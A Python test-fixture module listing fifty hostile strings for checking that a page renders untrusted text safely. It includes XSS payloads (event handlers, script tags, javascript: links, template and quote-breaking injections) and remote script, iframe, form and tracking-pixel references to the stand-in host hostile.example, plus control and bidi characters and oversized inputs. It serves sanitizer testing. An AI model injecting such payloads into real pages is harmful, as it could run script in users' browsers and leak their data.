"""Fifty texts that a model, an endpoint or a stranger's workflow might send to hurt the page that shows them."""

HOST = "hostile.example"
PWN = "window.pwned=(window.pwned||0)+1"

MARKUP = (
    f'<img src=x onerror="{PWN}">',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f'<iframe src="http://{HOST}/"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<object data="http://{HOST}/x.swf"></object>',
    f'<embed src="http://{HOST}/x">',
    f'<link rel="stylesheet" href="http://{HOST}/x.css">',
    "<style>* { display: none !important }</style>",
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f'<base href="http://{HOST}/">',
    f'<form action="http://{HOST}/"><button autofocus>send</button></form>',
    f'<input autofocus onfocus="{PWN}">',
    f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    f'<video src=x onerror="{PWN}"></video>',
    f'<math><mi xlink:href="javascript:{PWN}">x</mi></math>',
    "</p></article></section></div></body></html>",
    f"</textarea><script>{PWN}</script>",
    f"</style><script>{PWN}</script>",
    f"--><img src=x onerror={PWN}>",
    "<b>bold</b><h1>huge</h1><marquee>moves</marquee>",
    f"<template><img src=x onerror={PWN}></template>",
)
SCRIPTS = (
    f"<script>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
    f"javascript:{PWN}",
    f"`${{{PWN}}}`",
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"${{{PWN}}}",
    f"';{PWN};//",
    f'");{PWN};//',
    '{"__proto__": {"pwned": 1}}',
)
LINKS = (
    f'<a href="javascript:{PWN}">click</a>',
    f'<a href="http://{HOST}/">here</a>',
    f"[link](http://{HOST}/) ![pixel](http://{HOST}/pixel.png)",
    f"[link](javascript:{PWN})",
    f"http://{HOST}/?leak=everything",
    f'<a href="data:text/html,<script>{PWN}</script>">data</a>',
    f"![pixel][1]\n\n[1]: http://{HOST}/pixel.png",
)
CONTROL = (
    "nul \x00 bell \x07 backspace \x08 escape \x1b[31m delete \x7f",
    "c1 \x80\x85\x9b31m lines \u2028 and \u2029 paragraphs",
    "tab \t return \r feed \f vertical \v",
    "zero\u200bwidth \ufeff joiner\u200d tag\U000e0041\U000e007f",
    "not characters \ufffe \uffff \ufffd",
)
RTL = (
    "\u202egnirts desrever\u202c",
    "\u2067right to left\u2069 \u2066left to right",
    "שלום <b>עולם</b> مرحبا",
    "Z̸͉͚a" + "\u0301\u0323" * 300 + "lgo",
)
LONG = (
    "<div>" * 20_000,
    "a" * 50_000 + " " + "<b>x</b> " * 5_600,
)
# Words around each, so that what is trimmed at the ends is nobody's question.
HOSTILE = tuple(f"start {text} end" for text in (*MARKUP, *SCRIPTS, *LINKS, *CONTROL, *RTL, *LONG))
